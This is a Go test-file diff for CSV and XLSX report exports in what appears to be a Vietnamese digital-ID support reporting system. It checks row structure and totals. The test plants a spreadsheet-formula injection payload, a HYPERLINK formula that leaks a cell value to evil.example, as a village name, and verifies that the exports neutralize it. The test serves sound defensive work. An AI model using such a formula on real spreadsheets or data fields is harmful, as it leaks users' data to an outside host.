@@ -110,36 +110,66 @@ func TestReportAuthorizationHTTP(t *testing.T) {
 
 func TestReportExports(t *testing.T) {
 	e := reportFixture(t)
+	// A commune coordinator renames a village to a formula: it reaches the
+	// province's files as text, never as a formula.
+	evil := `=HYPERLINK("http://evil.example/?leak="&C3,"Xóm")`
+	if r := e.do("PATCH", fmt.Sprintf("/v1/areas/%d", e.villageA2.ID), e.token("coordA"), map[string]any{"name": evil}); r.Status != 200 {
+		t.Fatalf("rename: %d %s", r.Status, r.Body)
+	}
 	r := e.do("GET", reportPath("export.csv", e.province.ID, "2026-01-01", "2026-12-31"), e.token("coordP"), nil)
 	if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
 		t.Fatalf("csv: %d %s", r.Status, r.Header.Get("Content-Type"))
 	}
-	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF")))).ReadAll()
+	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\uFEFF"))))
+	cr.FieldsPerRecord = -1
+	recs, err := cr.ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
-	// Header, 2 communes, 3 villages, the total.
-	if got, want := len(recs), 1+2+3+1; got != want {
-		t.Fatalf("csv has %d records, want %d:\n%s", got, want, r.Body)
+	head := 0
+	for head < len(recs) && recs[head][0] != "Loại dòng" {
+		head++
+	}
+	if head == len(recs) {
+		t.Fatalf("no header row in the CSV:\n%s", r.Body)
 	}
 	col := map[string]int{}
-	for i, h := range recs[0] {
+	for i, h := range recs[head] {
 		col[h] = i
 	}
-	byVillage := map[string][]string{}
-	for _, rec := range recs[1:] {
-		byVillage[rec[col["Thôn/tổ dân phố (village)"]]] = rec
+	byUnit := map[string][]string{}
+	var kinds []string
+	for _, rec := range recs[head+1:] {
+		byUnit[rec[col["Đơn vị"]]] = rec
+		kinds = append(kinds, rec[col["Loại dòng"]])
 	}
-	a1 := byVillage["Thôn A1"]
-	if a1 == nil || a1[col["Xã/phường (commune)"]] != "Xã A" || a1[col["Người dân được hỗ trợ (citizens reached)"]] != "2" ||
-		a1[col["VNeID mức 2 (level 2)"]] != "1" || a1[col["Thành viên (members)"]] != "2" || a1[col["Thành viên/100 dân (members per 100)"]] != "0.2" {
-		t.Errorf("village A1 row = %v (columns %v)", a1, recs[0])
+	// Commune A: its villages, its subtotal; commune B likewise; the total.
+	// (Every fixture area has 1,000 residents, so no commune has residents
+	// left over for a "direct" row.)
+	if got, want := strings.Join(kinds, ","), "Chi tiết,Chi tiết,Cộng cấp xã,Chi tiết,Cộng cấp xã,Tổng cộng"; got != want {
+		t.Errorf("row kinds %s, want %s", got, want)
 	}
-	if a2 := byVillage["Thôn A2"]; a2 == nil || a2[col["Người tham dự (attendees)"]] != "12" || a2[col["Nữ (women)"]] != "7" {
-		t.Errorf("village A2 row = %v", a2)
+	a1 := byUnit["Thôn A1"]
+	if a1 == nil || a1[col["Xã/phường"]] != "Xã A" || a1[col["Người dân được hỗ trợ (lần đầu)"]] != "2" ||
+		a1[col["Hỗ trợ thành công: Kích hoạt định danh điện tử VNeID mức 2"]] != "1" || a1[col["Số thành viên"]] != "2" ||
+		a1[col["Thành viên/100 dân"]] != "0.2" || a1[col["Cấp"]] != "Thôn" {
+		t.Errorf("village A1 row = %v (columns %v)", a1, recs[head])
+	}
+	if a2 := byUnit["'"+evil]; a2 == nil || a2[col["Người tham dự"]] != "12" || a2[col["Nữ"]] != "7" {
+		t.Errorf("village A2 (renamed) row = %v; rows %v", a2, byUnit)
+	}
+	if a := byUnit["Cộng Xã A"]; a == nil || a[col["Người dân được hỗ trợ (lần đầu)"]] != "2" || a[col["Lượt hỗ trợ"]] != "2" ||
+		a[col["Số tổ"]] != "2" || a[col["Dân số"]] != "2000" {
+		t.Errorf("commune A subtotal = %v, want 2 citizens, 2 visits, 2 teams, its villages' 2000 residents", a)
+	}
+	if tot := byUnit["Tổng cộng Tỉnh Thử"]; tot == nil || tot[col["Lượt hỗ trợ"]] != "3" || tot[col["Số tổ"]] != "3" || tot[col["Dân số"]] != "3000" {
+		t.Errorf("total = %v, want 3 visits, 3 teams, 3000 residents", tot)
+	}
+	if bytes.Contains(r.Body, []byte(`,"=HYPERLINK`)) {
+		t.Error("the CSV carries the formula raw")
 	}
 
-	r = e.do("GET", reportPath("export.xlsx", e.communeA.ID, "2026-01-01", "2026-12-31"), e.token("coordA"), nil)
+	r = e.do("GET", reportPath("export.xlsx", e.communeA.ID, "2026-01-01", "2026-12-31"), e.token("coordA"), nil, "Accept-Language", "en")
 	if r.Status != 200 {
 		t.Fatalf("xlsx: %d %s", r.Status, r.Body)
 	}
@@ -148,16 +178,23 @@ func TestReportExports(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer f.Close()
-	rows, err := f.GetRows("Sheet1")
+	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Report" || got[1] != "Commune summary" {
+		t.Errorf("sheets %v, want Report and Commune summary", got)
+	}
+	rows, err := f.GetRows("Report")
 	if err != nil {
 		t.Fatal(err)
 	}
-	// Title, header, commune A, villages A1 and A2, the total.
-	if got, want := len(rows), 2+3+1; got != want {
-		t.Fatalf("xlsx has %d rows, want %d: %v", got, want, rows)
+	last := rows[len(rows)-1]
+	if last[0] != "Total" || last[2] != "Total Xã A" || last[10] != "2" {
+		t.Errorf("xlsx total row = %v, want the total of Xã A with 2 citizens", last)
 	}
-	if last := rows[len(rows)-1]; !strings.Contains(last[0], "Xã A") || last[9] != "2" {
-		t.Errorf("xlsx total row = %v, want Xã A with 2 citizens", last)
+	for _, row := range rows {
+		for _, c := range row {
+			if strings.Contains(c, "HYPERLINK") && !strings.HasPrefix(c, "'") {
+				t.Errorf("XLSX cell %q is not neutralized", c)
+			}
+		}
 	}
 }
 
